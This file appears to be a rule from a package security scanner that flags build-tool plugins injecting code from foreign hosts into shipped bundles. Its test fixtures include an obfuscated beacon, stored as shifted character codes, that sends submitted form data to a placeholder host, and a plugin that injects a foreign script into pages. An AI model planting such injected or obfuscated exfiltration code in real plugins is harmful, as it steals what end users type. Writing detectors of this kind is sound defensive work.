import type { Action, Context, Fact, Inspection, Rule, Text } from '../lib/types.ts'
import { oncePerLine } from './behaviour/once.ts'
import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
import type { Place } from './behaviour/place.ts'
import { unasked } from './behaviour/written.ts'
import { isUnder, registrableDomain } from './hosts/host.ts'
import type { HostList } from './lists.ts'
import { findingAt, opening, severityOf } from './finding.ts'

type Ships = Extract<Fact, { kind: 'ships' }>

/** What a plugin puts into what its user ships: it runs for the users of that. */
export const shippedCode: Rule = {
  meta: {
    id: 'shipped-code',
    title: 'Puts code of a stranger into what others ship',
    severity: 'critical',
    description:
      'A plugin of a build tool, or a hook of what loads modules, adds to the programs that pass through it: a script of a ' +
      'host it mentions nowhere else, code that hands such a host what is typed, kept or passed there, or code whose address ' +
      'is hidden. Honest plugins add what their user configured, files of public libraries, or a script of the service they ' +
      'are named after.',
    references: [
      'event-stream / flatmap-stream (2018): code added to a wallet while it was built',
      'SANDWORM_MODE and other build-time injections (2025-26)',
    ],
    blindSpots: [
      'A script of a host of the plugin’s own name, or whose address its user may set, and code that tells such a host for ' +
        'whom it sends: plugins of services add those.',
      'Code that is added by changing files of the output.',
    ],
    examples: {
      flags: [
        {
          title: 'a plugin that adds a hidden beacon to bundles',
          files: {
            'package.json': '{"name":"rollup-plugin-a","version":"1.0.0","main":"i.js"}',
            'i.js': hiddenFooter(),
          },
        },
        {
          title: 'a plugin that adds a script of somebody to pages',
          files: {
            'package.json': '{"name":"vite-plugin-a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "module.exports = () => ({ name: 'a', transformIndexHtml: html => ({ html, tags: [{ tag: 'script', attrs: { src: 'https://cdn.metrics-hub.invalid/s.js' } }] }) })\n",
          },
        },
      ],
      passes: [
        {
          title: 'a plugin that adds a file of a public library, and what its user says',
          files: {
            'package.json': '{"name":"vite-plugin-a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "module.exports = options => ({ name: 'a', transformIndexHtml: () => [{ tag: 'script', attrs: { src: 'https://cdn.jsdelivr.net/npm/eruda' } }, { tag: 'script', attrs: { src: options.src } }] })\n",
          },
        },
        {
          title: 'a plugin that adds a banner and a client of its own server',
          files: {
            'package.json': '{"name":"rollup-plugin-a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "module.exports = ({ port }) => ({ name: 'a', banner: () => '/*! built with https://a.example, see https://docs.example/why */', renderChunk: code => ({ code: `new WebSocket('ws://localhost:${port}').onmessage = () => location.reload();\\n` + code }) })\n",
          },
        },
      ],
    },
  },
  check(inspection, context) {
    return oncePerLine(
      inspection.facts.flatMap(fact => {
        if (fact.kind !== 'ships' || fact.phase === 'dormant') return []
        const place = worstOf(fact, inspection, context)
        const action = place === undefined ? undefined : weigh(fact, place)
        if (place === undefined || action === undefined) return []
        return [
          findingAt(fact.at, fact.phase, {
            action,
            severity: severityOf(action),
            message: say(fact, place),
          }),
        ]
      }),
    )
  },
}

/** An example: the beacon as a list of numbers. */
function hiddenFooter(): string {
  const code =
    "document.addEventListener('submit',e=>navigator.sendBeacon('https://x.invalid/f',new FormData(e.target)))"
  const numbers = Array.from(code, letter => letter.charCodeAt(0) + 1).join(',')
  return (
    `const table = [${numbers}]\n` +
    "const footer = () => table.map(n => String.fromCharCode(n - 1)).join('')\n" +
    "module.exports = () => ({ name: 'a', renderChunk: code => ({ code: code + footer() }) })\n"
  )
}

/** The stranger among the addresses, if there is one. */
function worstOf(fact: Ships, inspection: Inspection, context: Context): Place | undefined {
  const places = fact.destinations
    .map((address: Text) => placeOf([address], inspection, context))
    .filter(
      place =>
        (isStranger(place) && (fact.api === 'selector' || !isNamedAfter(place, inspection, context))) ||
        (isForAuthor(fact) && (place.kind === 'own' || place.kind === 'foreign')),
    )
    .filter(({ kind, host }) => kind !== 'foreign' || !isOfLibraries(host, context.lists.hosts))
  return places.find(({ kind }) => kind !== 'foreign') ?? places[0]
}

/**
 * Code that hands over what is typed or passed and says nothing of whom for. A service knows its customers by a key or by
 * an address of their own: what tells them not apart is for its author, whatever name his host has.
 */
function isForAuthor({ takes, what, anonymous }: Ships): boolean {
  return takes && what === 'sends' && anonymous
}

function isOfLibraries(host: Place['host'], { libraries }: HostList): boolean {
  return host === undefined || libraries.some(name => isUnder(host.name, name))
}

/** Whether the package says whose host it is: in its name, or in what it says it is for. */
function isNamedAfter({ kind, host }: Place, { manifest }: Inspection, { name, lists }: Context): boolean {
  if (kind !== 'foreign' || host === undefined || host.address) return false
  const [owner = ''] = labelsOf(host, lists.hosts)
  const said = [name, manifest.description ?? '', ...manifest.keywords].join(' ').toLowerCase()
  return owner.length >= minOwner && said.replaceAll(/[^a-z0-9]/g, '').includes(owner.replaceAll('-', ''))
}

const minOwner = 3

function labelsOf(host: NonNullable<Place['host']>, hosts: HostList): readonly string[] {
  return registrableDomain(host, hosts).split('.')
}

function weigh(fact: Ships, { kind }: Place): Action | undefined {
  const { api, what, takes, hidden } = fact
  if (hidden) return what === 'script' ? 'ask' : 'block'
  // Nobody who only imports it asked for a hook on every module.
  if (takes && api === '_compile' && unasked(fact)) return 'block'
  if (what === 'sends' && !takes) return kind === 'capture' ? 'ask' : undefined
  return takes && kind === 'capture' ? 'block' : 'ask'
}

const puts = {
  script: 'a script that pages then load',
  sends: 'code that sends data',
  loads: 'code that loads more code',
} as const

function say(fact: Ships, place: Place): string {
  if (fact.api === 'selector')
    return (
      `${opening(fact)} makes styles that load a picture of ${place.host?.shown ?? 'a computed host'} by what is typed into ` +
      'a field: whoever owns that host reads it letter by letter. Do not build with it.'
    )
  const from = fact.what === 'sends' ? 'to' : 'from'
  return (
    `${opening(fact)} puts ${puts[fact.what]} into the programs it is used on (${fact.api}), ${from} ` +
    `${place.host?.shown ?? 'a computed host'}, ${placeInWords(place)}` +
    `${fact.hidden ? ', whose name is hidden in the code' : ''}. ` +
    'Whoever uses those programs runs it. Do not build with it.'
  )
}
